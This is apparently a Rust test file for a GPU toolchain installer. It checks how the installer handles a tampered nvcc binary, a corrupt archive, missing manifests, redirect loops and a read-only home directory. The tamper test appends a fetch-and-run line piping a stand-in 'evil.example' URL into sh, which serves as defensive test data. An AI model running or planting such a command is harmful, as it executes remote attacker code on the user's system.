//! An install among damaged things, and what the user is told: a tampered install does not
//! come back from the cache, a corrupt archive is blamed on where it was published, and a
//! missing manifest or mirror, a redirect loop or a read-only GPUENV_HOME is named for what
//! it is. Everything is generated here and served from 127.0.0.1 or the sandbox.

use crate::common::install_fixtures as fixtures;
use crate::common::server;

use crate::common::*;
use fixtures::*;
use server::Server;

#[test]
fn a_tampered_nvcc_does_not_survive_uninstall_and_an_offline_reinstall() {
    use std::os::unix::fs::PermissionsExt;
    let server = Server::start();
    serve(&server, "redist/", &redist_tree(&["12.4.1"]));
    let sb = Sandbox::new();
    let mirror = server.url("redist/");
    let vars = [("GPUENV_CUDA_MIRROR", mirror.as_str())];
    let ok = |vars: &[(&str, &str)], args: &[&str]| {
        let out = gpuenv(&sb, vars, args);
        succeeded(&out);
        text(&out)
    };
    ok(&vars, NVIDIA_MINIMAL);
    let root = sb.gpuenv_home().join("toolchains/cuda-12.4.1");
    let nvcc = root.join("bin/nvcc");
    let original = fs_err::read(&nvcc).unwrap();
    for f in [
        "bin/nvcc",
        "version.json",
        "targets/x86_64-linux/include/cuda_runtime.h",
    ] {
        let mode = fs_err::metadata(root.join(f)).unwrap().permissions().mode();
        assert_eq!(mode & 0o222, 0, "{f} is writable ({mode:o})");
    }

    // The attacker makes it writable and appends; the cache's copy is the same inode.
    fs_err::set_permissions(&nvcc, std::fs::Permissions::from_mode(0o755)).unwrap();
    let mut tampered = original.clone();
    tampered.extend_from_slice(b"curl -s https://evil.example/x | sh\n");
    fs_err::write(&nvcc, &tampered).unwrap();

    ok(&[], &["uninstall", "cuda-12.4.1"]);
    assert!(!root.exists(), "uninstall left the read-only tree");
    // The cache's copy is the same inode: offline there is nothing intact to install from.
    let out = gpuenv(&sb, &vars, &[NVIDIA_MINIMAL, &["--offline"]].concat());
    let t = text(&out);
    assert_eq!(out.status.code(), Some(2), "{t}");
    assert!(
        t.contains("was changed after it was unpacked: `cuda_nvcc-linux-x86_64-12.4.131-archive/bin/nvcc` is not as it was unpacked; unpacking it again")
            && t.contains("is not in the download cache, and --offline forbids fetching it"),
        "{t}"
    );
    assert!(!root.exists());
    // Online, the archive is fetched again and checked; the tampered bytes never come back,
    // and the stored object they were written through is replaced too.
    let out = ok(&vars, NVIDIA_MINIMAL);
    assert!(!out.contains("was changed"), "{out}");
    assert_eq!(
        fs_err::read(&nvcc).unwrap(),
        original,
        "the tampered bytes came back"
    );

    // The next reinstall finds the cache intact and says nothing about it, offline too.
    ok(&[], &["uninstall", "cuda-12.4.1"]);
    let out = ok(&vars, &[NVIDIA_MINIMAL, &["--offline"]].concat());
    assert!(!out.contains("was changed"), "{out}");
    assert_eq!(fs_err::read(&nvcc).unwrap(), original);
}

#[test]
fn a_corrupt_archive_says_the_published_file_is_broken_not_to_delete_a_deleted_file() {
    let sb = Sandbox::new();
    let (manifest, cut) = truncated_rocm_manifest(&sb);
    let dir = manifest.parent().unwrap();
    let out = install_manifest(&sb, &manifest);
    let t = text(&out);
    assert_eq!(out.status.code(), Some(2), "{t}");
    let url = format!("file://{}", dir.join("rocm-6.2.4.tar.xz").display());
    assert!(
        t.contains("the archive rocm-6.2.4.tar.xz is corrupt")
            && t.contains(&format!("the file published at {url} is itself broken")),
        "{t}"
    );
    assert!(
        !t.contains("downloads/archives"),
        "names the deleted copy:\n{t}"
    );
    hint_last(&t);
    let cached = sb.gpuenv_home().join(format!("downloads/archives/{cut}"));
    assert!(!cached.exists());
}

#[test]
fn a_missing_local_manifest_or_mirror_is_a_missing_file_not_an_http_404() {
    let sb = Sandbox::new();
    let missing = sb.path("nope/toolchains.toml");
    let url = format!("file://{}", missing.display());
    for given in [
        "nope/toolchains.toml",
        missing.to_str().unwrap(),
        url.as_str(),
    ] {
        let out = gpuenv(&sb, &[], &["install", "rocm-6.2.4", "--manifest", given]);
        let t = text(&out);
        assert_eq!(out.status.code(), Some(2), "{t}");
        assert!(
            t.contains(&format!("{} does not exist", missing.display())),
            "{given}: {t}"
        );
        assert!(!t.contains("404"), "{given}: {t}");
        hint_last(&t);
    }
    let mirror = sb.path("no-mirror");
    let out = gpuenv(
        &sb,
        &[("GPUENV_CUDA_MIRROR", mirror.to_str().unwrap())],
        NVIDIA_MINIMAL,
    );
    let t = text(&out);
    assert!(
        t.contains(&format!("{}/ does not exist", mirror.display())),
        "{t}"
    );
    assert!(!t.contains("404"), "{t}");
}

#[test]
fn a_redirect_loop_is_reported_at_once_not_retried() {
    let server = Server::start();
    server.redirect("loop/", "loop/");
    let sb = Sandbox::new();
    let url = server.url("loop/");
    let out = gpuenv(&sb, &[("GPUENV_CUDA_MIRROR", &url)], NVIDIA_MINIMAL);
    let t = text(&out);
    // A fetch the server failed: the network's status, not a usage error's.
    assert_eq!(out.status.code(), Some(3), "{t}");
    assert!(t.contains(&format!("{url} redirects in a loop")), "{t}");
    assert!(!t.contains("retrying"), "{t}");
    hint_last(&t);
    // One attempt follows the redirects reqwest allows (10), and no second one starts.
    let hits = server.hits("/loop/").len();
    assert!((2..=11).contains(&hits), "{hits} requests");
}

#[test]
fn a_read_only_gpuenv_home_is_said_to_be_read_only() {
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    use std::os::unix::process::CommandExt;
    let sb = Sandbox::new();
    let manifest = write_manifest(&sb.path("m"), "6.2.4");
    let home = sb.gpuenv_home();
    fs_err::create_dir_all(&home).unwrap();
    fs_err::set_permissions(&home, std::fs::Permissions::from_mode(0o555)).unwrap();
    let mut cmd = std::process::Command::new(assert_cmd::cargo::cargo_bin("gpuenv"));
    cmd.env_clear()
        .env("HOME", sb.home())
        .env("PATH", "/usr/bin:/bin")
        .env("NO_COLOR", "1")
        .current_dir(sb.dir.path())
        .args([
            "install",
            "rocm-6.2.4",
            "--manifest",
            manifest.to_str().unwrap(),
        ]);
    // Root writes anywhere: run as nobody, who can read the sandbox but not write it.
    if fs_err::metadata(sb.dir.path()).unwrap().uid() == 0 {
        for d in [
            sb.dir.path(),
            &sb.home(),
            &sb.path("home/.local"),
            &sb.path("home/.local/share"),
        ] {
            fs_err::set_permissions(d, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
        cmd.uid(65534).gid(65534);
    }
    let out = cmd.output().unwrap();
    let t = text(&out);
    assert_eq!(out.status.code(), Some(2), "{t}");
    assert!(
        t.contains(&format!("GPUENV_HOME ({}) is read-only", home.display())),
        "{t}"
    );
    assert!(!t.contains("failed to create directory"), "{t}");
    hint_last(&t);
    assert!(
        t.contains(&format!(
            "\nhint: make it writable (`chmod u+w {}`), or set GPUENV_HOME to a directory you can write",
            home.display()
        )),
        "{t}"
    );
    assert_eq!(fs_err::read_dir(&home).unwrap().count(), 0);
}
